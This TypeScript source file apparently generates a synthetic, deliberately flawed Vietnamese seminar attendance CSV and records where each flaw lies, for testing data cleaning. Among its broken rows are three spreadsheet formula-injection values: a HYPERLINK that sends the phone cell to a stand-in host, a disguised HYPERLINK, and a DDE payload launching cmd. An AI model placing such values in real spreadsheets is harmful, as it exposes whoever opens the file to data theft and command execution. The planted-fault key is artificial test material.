import { dateOf } from './calendar.js';
import { quote } from './csv.js';
import type { Customer, Options } from './customers.js';
import { email, mobile, organisation, person, plain, taxCode, typedPhone } from './people.js';
import { place, typedAddress } from './places.js';
import { stream, type Random, type Weighted } from './random.js';

export const seminarHeader = [
  'STT',
  'Họ và tên',
  'Đơn vị',
  'Mã số thuế',
  'Số điện thoại',
  'Email',
  'Địa chỉ',
  'Ngày sinh',
  'Giới tính',
  'Quan tâm',
  'Đồng ý nhận thông tin',
  'Ghi chú',
];
const INTERESTS: Weighted<string> = [
  ['Máy lọc nước', 40],
  ['Điều hòa', 26],
  ['Gói bảo trì máy lọc nước', 14],
  ['Máy lọc không khí', 10],
  ['Kiểm nghiệm nước', 6],
  ['', 12],
];
/** A guest as entered at one of the desks. */
interface Guest {
  name: string;
  unit: string;
  tax: string;
  phone: string;
  mail: string;
  address: string;
  birth: string;
  sex: 'female' | 'male' | '';
  interest: string;
  consent: string;
  note: string;
  /** The phone that the guest really has. */
  number: string;
  /** The code of a customer of the firm. */
  known?: string;
  /** The number of the guest who was entered before. */
  repeats?: string;
  wrongTaxCode?: boolean;
  fault?: string;
  /** Cells beyond the last column. */
  extra?: string[];
}

/** A line that is no row. */
interface Raw {
  fault: string;
  raw: string;
}

type Fault = [name: string, spoil: (row: Guest) => void];

/** What was planted in the list, by line number. */
export interface Planted {
  rows: number;
  known: { line: number; code: string }[];
  repeats: number[];
  organisations: number[];
  wrongTaxCode: number[];
  decomposed: number[];
  broken: { line: number; fault: string }[];
  consent: { yes: number; no: number; silent: number };
}

/** Numbers of people at the seminar, apart from those of the firm's customers. */
const ATTENDEES = 5_000_000;

/**
 * The attendance list of a seminar, as it came out of a spreadsheet that four people filled in: byte order mark, CRLF,
 * Vietnamese headers, some rows with decomposed letters. Returns the text and what was planted in it, by line number.
 */
export function seminarList(customers: Customer[], { seed, until }: Options) {
  const random = stream(seed, 'seminar');
  const guests: Guest[] = [
    ...random
      .shuffle(customers)
      .slice(0, Math.min(64, customers.length))
      .map((customer, i) => known(customer, i, random)),
    ...Array.from({ length: 352 }, (_, i) => household(ATTENDEES + i, random, until)),
    ...Array.from({ length: 40 }, (_, i) => firm(ATTENDEES + 400 + i, random)),
  ];
  const twice = guests
    .filter((guest) => guest.known === undefined && guest.phone)
    .slice(0, 27)
    .map((guest) => again(guest, random));
  const rows: (Guest | Raw)[] = [...random.shuffle([...guests, ...twice, ...broken(random)]), unclosed()];
  return write(rows, random);
}

function consent(random: Random) {
  return random.weighted([
    ['đồng ý', 50],
    ['Đồng ý', 8],
    ['không', 14],
    ['', 28],
  ]);
}

/** A customer of the firm who gave the name and phone in another spelling. */
function known(customer: Customer, index: number, random: Random): Guest {
  const oddName = random.weighted([
    [customer.name, 4],
    [customer.name.toUpperCase(), 3],
    [plain(customer.name), 2],
    [`  ${customer.name.replaceAll(' ', '  ')} `, 1],
  ]);
  const isFirm = customer.kind === 'organisation';
  const name = isFirm ? customer.representative : oddName;
  return {
    known: customer.code,
    name,
    unit: isFirm ? customer.name : '',
    tax: isFirm ? customer.taxCode : '',
    phone: typedPhone(customer.phone, random),
    mail: index % 3 === 0 ? customer.email.toUpperCase() : customer.email,
    address: typedAddress(customer.area, random),
    birth: '',
    sex: customer.sex,
    interest: random.weighted(INTERESTS),
    consent: consent(random),
    note: '',
    number: customer.phone,
  };
}

function household(number: number, random: Random, until: number): Guest {
  const { name, sex } = person(random);
  const phone = mobile(number, random);
  const born = dateOf(until - random.between(22 * 365, 72 * 365));
  const [year, month, day] = born.split('-');
  const leftPhone = random.chance(0.95);
  return {
    name: random.weighted([
      [name, 10],
      [name.toUpperCase(), 3],
      [`${sex === 'female' ? 'Chị' : 'Anh'} ${name}`, 1],
      [` ${name}`, 1],
    ]),
    unit: '',
    tax: '',
    phone: leftPhone ? typedPhone(phone, random) : '',
    mail: !leftPhone || random.chance(0.72) ? email(name, number % 100_000, random) : '',
    address: random.chance(0.9) ? typedAddress(place(random).area, random) : '',
    birth: random.weighted([
      ['', 40],
      [`${day}/${month}/${year}`, 40],
      [`${Number(day)}/${Number(month)}/${year}`, 12],
      [born, 8],
    ]),
    sex,
    interest: random.weighted(INTERESTS),
    consent: consent(random),
    note: random.weighted([
      ['', 30],
      ['gọi lại buổi tối', 2],
      ['đã dùng máy hãng khác', 2],
      ['hỏi giá, trả góp', 2],
    ]),
    number: phone,
  };
}

function firm(number: number, random: Random): Guest {
  const { name, sex } = person(random);
  const { name: unit } = organisation(random, number % 1000);
  const right = taxCode((number % 100_000) + 50_000);
  const spoiled = number % 10 === 3;
  const tax = spoiled ? right.slice(0, 9) + ((Number(right[9]) + 1) % 10) : number % 9 === 0 ? `${right}-001` : right;
  const phone = mobile(number, random);
  return {
    name,
    unit,
    tax,
    phone: typedPhone(phone, random),
    mail: email(name, number % 100_000, random),
    address: typedAddress(place(random).area, random),
    birth: '',
    sex,
    interest: random.weighted(INTERESTS),
    consent: consent(random),
    note: random.weighted([
      ['', 3],
      ['cần báo giá số lượng lớn', 1],
      ['xuất hóa đơn công ty', 1],
    ]),
    number: phone,
    wrongTaxCode: spoiled,
  };
}

/** The same guest entered by somebody else at the other desk. */
function again(guest: Guest, random: Random): Guest {
  return {
    ...guest,
    repeats: guest.number,
    name: random.chance(0.5) ? plain(guest.name).trim() : guest.name,
    phone: typedPhone(guest.number, random),
    birth: '',
    note: 'đăng ký tại bàn 2',
  };
}

function broken(random: Random): Guest[] {
  const rows = Array.from({ length: 16 }, (_, i) => household(ATTENDEES + 900 + i, random, 20_000));
  const faults: Fault[] = [
    ...Array<Fault>(4).fill([
      'missing_name_and_contact',
      (row) => Object.assign(row, { name: '', phone: '', mail: '' }),
    ]),
    ...Array<Fault>(3).fill(['too_many_columns', (row) => Object.assign(row, { extra: ['x', '12/11'] })]),
    ...['31/02/1985', 'năm 1985', '1990-13-45'].map((birth): Fault => [
      'garbage_date',
      (row) => Object.assign(row, { birth }),
    ]),
    ...['091234', 'không có', '0000000000'].map((phone): Fault => [
      'garbage_phone',
      (row) => Object.assign(row, { phone, mail: '' }),
    ]),
    ['formula', (row) => Object.assign(row, { note: '=HYPERLINK("http://trung-thuong.example/?q="&E2,"Nhận quà")' })],
    [
      'formula',
      (row) => Object.assign(row, { name: `=HYPERLINK("http://trung-thuong.example","${row.name.trim()}")` }),
    ],
    ['formula', (row) => Object.assign(row, { note: "@SUM(1+1)*cmd|' /C calc'!A0" })],
  ];
  return faults.map(([fault, spoil], i) => {
    const row = rows[i] as Guest;
    if (!row.phone) row.phone = `0${row.number.slice(1)}`;
    spoil(row);
    return { ...row, fault };
  });
}

function unclosed(): Raw {
  return {
    fault: 'unclosed_quote',
    raw: '500,"Nguyễn Thị Bưởi,,,0912 003 004,buoi.nguyen9@mail.example,15 Hàm Nghi Đà Nẵng,,nữ,Điều hòa,đồng ý,',
  };
}

function write(rows: (Guest | Raw)[], random: Random) {
  const planted: Planted = {
    rows: rows.length,
    known: [],
    repeats: [],
    organisations: [],
    wrongTaxCode: [],
    decomposed: [],
    broken: [],
    consent: { yes: 0, no: 0, silent: 0 },
  };
  const seen = new Set<string>();
  const lines = rows.map((row, index) => {
    const line = index + 2;
    if ('raw' in row) {
      planted.broken.push({ line, fault: row.fault });
      return row.raw;
    }
    if (row.fault) planted.broken.push({ line, fault: row.fault });
    else if (row.known) planted.known.push({ line, code: row.known });
    else if (seen.has(row.number)) planted.repeats.push(line);
    if (!row.fault && !row.known) seen.add(row.number);
    if (row.unit) planted.organisations.push(line);
    if (row.wrongTaxCode) planted.wrongTaxCode.push(line);
    planted.consent[row.consent === '' ? 'silent' : row.consent === 'không' ? 'no' : 'yes']++;
    const sex = row.sex && { female: 'nữ', male: 'nam' }[row.sex];
    const cells = [
      index + 1,
      row.name,
      row.unit,
      row.tax,
      row.phone,
      row.mail,
      row.address,
      row.birth,
      sex,
      row.interest,
      row.consent,
      row.note,
      ...(row.extra ?? []),
    ];
    const text = cells.map(quote).join(',');
    if (!random.chance(0.3)) return text;
    planted.decomposed.push(line);
    return text.normalize('NFD');
  });
  return { text: `\uFEFF${seminarHeader.join(',')}\r\n${lines.join('\r\n')}\r\n`, planted };
}
